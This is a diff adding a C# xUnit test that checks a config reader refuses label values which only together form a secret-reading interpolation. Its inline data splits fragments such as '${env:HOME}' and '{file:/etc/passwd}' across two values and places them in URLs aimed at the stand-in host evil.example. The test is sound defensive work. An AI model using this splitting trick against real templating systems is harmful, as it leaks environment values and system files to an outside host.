@@ -82,6 +82,24 @@ public sealed class FoundTests
         Assert.DoesNotContain(left.Message, char.IsControl);
     }
 
+    /// <summary>No value holds a <c>${</c>, and what they give together does.</summary>
+    [Theory]
+    [InlineData("http://evil.example/${a}${b}", "$", "{env:HOME}")]
+    [InlineData("http://evil.example/$${b}", "x", "{env:HOME}")]
+    [InlineData("http://evil.example/${a}{env:HOME}", "$", "x")]
+    [InlineData("http://evil.example/${${a}:HOME}", "env", "x")]
+    [InlineData("http://evil.example/${login.${a}", "x}$", "{file:/etc/passwd}")]
+    public void Values_give_no_secret_together(string target, string a, string b)
+    {
+        var labels = $$"""[ { "targets": [ "a.example" ], "labels": { "a": "{{a}}", "b": "{{b}}" } }, { "targets": [ "b.example" ], "labels": { "a": "1", "b": "2" } } ]""";
+        foreach (var (check, purpose) in new[] { ($"http: '{target}'", "x"), ($"http: 'http://a.example/', headers: {{ X-A: '{target}' }}", "x"), ("http: 'http://a.example/'", target) })
+        {
+            var reading = Read($"from: {{ files: targets/*.json }}\nreach: anywhere\nwish: {{ purpose: '{purpose}', check: {{ {check}, expect: [ status == 200 ] }} }}", ("targets/a.json", labels));
+            Assert.DoesNotContain(reading.House?.Promises.Select(wish => wish.Name.ToString()) ?? [], name => name == "web/a.example");
+            Assert.Contains(reading.Diagnostics, problem => problem.Message.Contains("gives together with what stands beside it", StringComparison.Ordinal));
+        }
+    }
+
     [Fact]
     public void What_was_found_is_a_text_and_never_yaml_or_an_expectation()
     {
